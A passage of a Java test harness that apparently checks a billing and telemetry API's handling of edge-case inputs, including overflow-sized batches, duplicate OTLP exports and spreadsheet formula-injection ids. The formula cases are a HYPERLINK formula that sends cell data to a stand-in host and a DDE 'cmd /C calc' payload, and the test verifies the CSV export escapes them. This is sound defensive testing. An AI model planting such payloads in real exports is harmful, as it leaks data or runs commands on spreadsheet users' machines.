        pass &= ingest(rows, T, "/api/v1/usage/events", usage + "]", ids.length);
        pass &= ingest(rows, Q, "/api/v1/activity/events", opens + "]", ids.length);
        pass &= ingest(rows, Q, "/api/v1/installs", opens + "]", ids.length);
        pass &= ingest(rows, Q, "/api/v1/ai-sessions", sessions + "]", ids.length);
        pass &= ingest(rows, B, "/api/v1/ledger/lines", ledger + "]", ids.length);
        pass &= ingest(rows, T, "/api/v1/resources/usage", gpu + "]", ids.length);
        pass &= otlpExport(rows);
        JsonNode u = s.read(T, "/api/v1/usage/summary?period=2024-11").path("rows");
        pass &= row(rows, T, "usage summary 2024-11: events", String.valueOf(ids.length), u.size() == 0 ? "0" : u.get(0).path("events").asText());
        JsonNode m = s.read(Q, "/api/v1/apps/rb-app/metrics?period=2024-11");
        pass &= row(rows, Q, "app metrics 2024-11: installs", String.valueOf(ids.length), m.path("installs").asText());
        pass &= row(rows, Q, "app metrics 2024-11: newUsers", String.valueOf(ids.length), m.path("newUsers").asText());
        pass &= row(rows, Q, "app metrics 2024-11: aiSessions", String.valueOf(ids.length), m.path("volume").path("aiSessions").asText());
        JsonNode l = s.read(B, "/api/v1/ledger/summary?period=2024-11").path("rows");
        pass &= row(rows, B, "ledger summary 2024-11: lines", String.valueOf(ids.length), l.size() == 0 ? "0" : l.get(0).path("lines").asText());
        JsonNode k = s.read(T, "/api/v1/kpis?period=2024-11");
        pass &= row(rows, T, "kpis 2024-11: GPU hours (" + ids.length + " x 1.5)", "4.5", findGpuHours(k));
        for (String id : ids) {
            Answer a = s.get(B, "/api/v1/ledger/lines/" + enc(id));
            pass &= row(rows, B, "ledger line read back by id " + Services.abbreviate(id, 24), id,
                    a.status() == 200 ? a.json().path("line").path("lineId").asText() : a.summary());
            Answer vput = s.putJson(B, "/api/v1/vouchers/" + enc(id), "{\"customerId\":\"rb-inv\",\"customerKind\":\"INVESTEE\","
                    + "\"amountCny\":1.00,\"issuedOn\":\"2024-07-01\",\"expiresOn\":\"2024-12-31\"}");
            Answer vget = s.get(B, "/api/v1/vouchers/" + enc(id));
            pass &= row(rows, B, "voucher id " + Services.abbreviate(id, 24) + " (PUT " + vput.status() + ")", id,
                    vget.status() == 200 ? vget.json().path("voucherId").asText() : vget.summary());
            Answer b = s.postJson(T, "/api/v1/benchmarks", "[{\"modelId\":\"rb-model\",\"benchmark\":" + str(id)
                    + ",\"score\":1,\"evaluatedOn\":\"2024-11-10\"}]");
            Answer bget = s.get(T, "/api/v1/benchmarks?benchmark=" + enc(id));
            pass &= row(rows, T, "benchmark name " + Services.abbreviate(id, 24) + " (POST " + b.status() + ")", "1 result",
                    bget.status() == 200 ? bget.json().size() + " result" + (bget.json().size() == 1 ? "" : "s") : bget.summary());
        }

        // Ids a spreadsheet would run as formulas: stored verbatim, and the ledger export writes them as quoted text
        // with a single quote in front (2019-02, in the harness's own quarter); amounts stay numbers.
        String link = "=HYPERLINK(\"http://rb.example/?\"&A1,\"open\")";
        s.putJson(B, "/api/v1/vouchers/" + enc(FORMULA_VOUCHER), "{\"customerId\":\"rb-inv\",\"customerKind\":\"INVESTEE\","
                + "\"amountCny\":5.00,\"issuedOn\":\"2019-01-01\",\"expiresOn\":\"2019-12-31\"}");
        Answer formulas = s.postJson(B, "/api/v1/ledger/lines", "["
                + line(link, "rb-cust", "EXTERNAL", null, "2019-02-03", "IAAS", "3.00", "CASH", null, null, null) + ","
                + line("@SUM(1+1)*cmd|' /C calc'!A0", "rb-cust", "EXTERNAL", null, "2019-02-04", "IAAS", "2.00", "CASH", null, null, null) + ","
                + line("-2+3", "rb-cust", "EXTERNAL", null, "2019-02-05", "IAAS", "-1.25", "CASH", null, null, link) + ","
                + line("+rb-formula", "rb-inv", "INVESTEE", null, "2019-02-06", "AI_COMPUTE", "1.50", "VOUCHER", FORMULA_VOUCHER, null, null)
                + "]");
        pass &= row(rows, B, "ledger lines with formula ids", "accepted 4",
                formulas.status() == 200 ? "accepted " + formulas.json().path("accepted").asInt() : formulas.summary());
        Answer export = s.get(B, "/api/v1/ledger/export?period=2019-02");
        String csv = export.body() == null ? "" : export.body();
        for (String id : List.of(link, "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "+rb-formula", FORMULA_VOUCHER)) {
            String cell = "\"'" + id.replace("\"", "\"\"") + "\"";
            pass &= row(rows, B, "export cell of " + Services.abbreviate(id, 24), cell,
                    csv.contains("," + cell + ",") || csv.contains("," + cell + "\n") ? cell : "not found in " + export.status()
                            + " " + Services.abbreviate(csv, 200), csv.contains(cell) && !csv.contains("," + id.replace("\"", "\"\"")));
        }
        pass &= row(rows, B, "export amounts stay numbers", ",-1.25,", csv.contains(",-1.25,") ? ",-1.25," : "missing");

        // The largest numbers the rules allow, more than once: the figures must still be read (December 2023, a period
        // the gateway never asks for in these harnesses).
        String maxTokens = "1000000000000000"; // LedgerLineValidator.MAX_TOKENS_PER_LINE, 10^15
        StringBuilder big = new StringBuilder("[");
        for (int i = 0; i < 10_000; i++) {
            big.append(i > 0 ? "," : "").append(line("rb-ok-big-" + i, "rb-big", "EXTERNAL", null, "2023-12-10", "MAAS_TOKENS",
                    "0.01", "CASH", null, Long.parseLong(maxTokens), null));
        }
        Answer bigLines = s.postJson(B, "/api/v1/ledger/lines", big + "]");
        pass &= row(rows, B, "a batch of 10,000 ledger lines of 10^15 tokens (both maxima; Σ 10^19 > 2^63)", "200", status(bigLines));
        Answer sum = s.get(B, "/api/v1/ledger/summary?period=2023-12");
        pass &= row(rows, B, "  then GET /ledger/summary?period=2023-12", "200", status(sum));
        Answer attr = s.get(B, "/api/v1/attribution?period=2023-Q4");
        pass &= row(rows, B, "  then GET /attribution?period=2023-Q4", "200", status(attr));

        String maxValue = "99999999999999999.99";
        String two = "[" + bigSession("rb-ok-v1", maxValue) + "," + bigSession("rb-ok-v2", maxValue) + "]";
        Answer twoSessions = s.postJson(Q, "/api/v1/ai-sessions", two);
        pass &= row(rows, Q, "2 sessions of the largest conversionValueCny, same feature and day", "200 or 4xx",
                status(twoSessions), twoSessions.status() == 200 || (twoSessions.status() / 100 == 4 && twoSessions.isProblem()));
        Answer oneMore = s.postJson(Q, "/api/v1/ai-sessions", "[" + bigSession("rb-ok-v3", maxValue) + "]");
        pass &= row(rows, Q, "  one more such session, separate batch", "200 or 4xx", status(oneMore),
                oneMore.status() == 200 || (oneMore.status() / 100 == 4 && oneMore.isProblem()));
        Answer third = s.postJson(Q, "/api/v1/ai-sessions", "[" + bigSession("rb-ok-v4", maxValue) + "]");
        pass &= row(rows, Q, "  and one more, separate batch, same feature and day", "200 or 4xx", status(third),
                third.status() == 200 || (third.status() / 100 == 4 && third.isProblem()));
        Answer metrics = s.get(Q, "/api/v1/apps/rb-app/metrics?period=2023-12");
        pass &= row(rows, Q, "  then GET /apps/rb-app/metrics?period=2023-12", "200", status(metrics));

        Answer p = s.putJson(T, "/api/v1/models/rb-ok-precise", "{\"family\":\"rb\",\"vendor\":\"Alibaba\",\"displayName\":\"P\","
                + "\"parametersBillions\":1234567.125,\"openSource\":true}");
        String stored = p.ok() ? s.read(T, "/api/v1/models/rb-ok-precise").path("parametersBillions").asText() : "-";
        pass &= row(rows, T, "parametersBillions 1234567.125 (the most digits allowed), read back", "201, 1234567.125",
                status(p) + ", " + stored, p.status() == 201 && stored.equals("1234567.125"));
        return pass;
    }

    /**
     * An OTLP export with a live ingest key, as an exporter configured with only the endpoint and the key sends it, and
     * sent again as an exporter retries: taken and counted once (2024-10).
     */
    private boolean otlpExport(List<List<String>> rows) {
        JsonNode key = s.write("POST", T, "/api/v1/ingest-keys", "{\"name\":\"rb exporter\",\"streams\":[\"usage\"]}");
        Map<String, String> auth = Map.of("Authorization", "Bearer " + key.path("key").asText());
        byte[] export = TongyiBadInputs.otlpProtobuf(999_999, java.time.Instant.parse("2024-10-10T04:00:00Z"));
        long accepted = s.ingestCounter(T, "otlp-spans", "accepted");
        long duplicates = s.ingestCounter(T, "otlp-spans", "duplicate");
        List<String> answers = new ArrayList<>();
        for (int i = 0; i < 2; i++) {
            answers.add(String.valueOf(s.send("POST", T, "/v1/traces", export, TongyiBadInputs.PROTOBUF_TYPE, true,
                    Duration.ofSeconds(60), false, auth).status()));
        }
        boolean pass = row(rows, T, "OTLP export of one usage span with an ingest key, sent twice", "200 200", String.join(" ", answers));
        pass &= row(rows, T, "  otlp-spans counted accepted, duplicate", "1, 1", (s.ingestCounter(T, "otlp-spans", "accepted")
                - accepted) + ", " + (s.ingestCounter(T, "otlp-spans", "duplicate") - duplicates));
        JsonNode u = s.read(T, "/api/v1/usage/summary?period=2024-10").path("rows");
        return pass & row(rows, T, "  usage summary 2024-10: events, input, output", "1, 10, 5", u.size() == 0 ? "none"
                : u.get(0).path("events").asText() + ", " + u.get(0).path("inputTokens").asText() + ", "
                + u.get(0).path("outputTokens").asText());
    }

    private static String bigSession(String id, String value) {
        return "{\"sessionId\":\"" + id + "\",\"appId\":\"rb-app\",\"featureId\":\"rb-feat\",\"userId\":\"rb-big\",\"startedAt\":"
                + "\"2023-12-10T04:00:00Z\",\"turns\":1,\"agentCalls\":0,\"outcome\":\"RESOLVED\",\"rating\":null,\"converted\":true,"
                + "\"conversionValueCny\":" + value + "}";
    }

    private static String status(Answer a) {
        if (a.failure() != null) {
            return "no answer";
        }
        if (a.status() < 400) {
            return String.valueOf(a.status());
        }
        if (a.isProblem()) {
            JsonNode p = a.json();
            JsonNode first = p.path("errors").path(0);
            return a.status() + " " + p.path("title").asText() + (first.isMissingNode() ? ": " + p.path("detail").asText()
                    : ": item " + first.path("index").asText() + " " + first.path("field").asText() + " " + first.path("message").asText());
        }
        return a.status() + " " + Services.abbreviate(a.body(), 160);
    }

    private static String findGpuHours(JsonNode kpis) {
        JsonNode found = kpis.findValue("gpuHours");
        return found == null ? "(no gpuHours in /kpis)" : found.decimalValue().stripTrailingZeros().toPlainString();
    }

    private boolean verbatim(List<List<String>> rows, String module, String path, String field, String text, String body) {
        Answer put = s.putJson(module, path, body);
        String back = put.summary();
        if (put.ok() && path.contains("/features/")) { // features are read as their app's list
            String featureId = path.substring(path.lastIndexOf('/') + 1);
            for (JsonNode f : s.read(module, path.substring(0, path.lastIndexOf('/')))) {
                if (f.path("featureId").asText().equals(featureId)) {
                    back = f.path(field).asText();
                }
            }
        } else if (put.ok()) {
            back = s.read(module, path).path(field).asText();
        }
        return row(rows, module, "PUT " + path + " " + field + " = " + Services.abbreviate(text, 30), text, back);
    }

    private boolean ingest(List<List<String>> rows, String module, String path, String body, int distinct) {
        Answer a = s.postJson(module, path, body);
        String got = a.status() == 200 ? "accepted " + a.json().path("accepted").asInt() + ", duplicates "
                + a.json().path("duplicates").asInt() : a.summary();
        return row(rows, module, "POST " + path + ": SQL/script ids, the last id twice", "accepted " + distinct
                + ", duplicates 1", got);
    }

    private static boolean row(List<List<String>> rows, String module, String what, String expected, String got) {
        return row(rows, module, what, expected, got, expected.equals(got));
    }

    private static boolean row(List<List<String>> rows, String module, String what, String expected, String got, boolean ok) {
        rows.add(List.of(module, what, Services.abbreviate(expected, 40), Services.abbreviate(got, 120), ok ? "OK" : "FAIL"));
        return ok;
    }
}
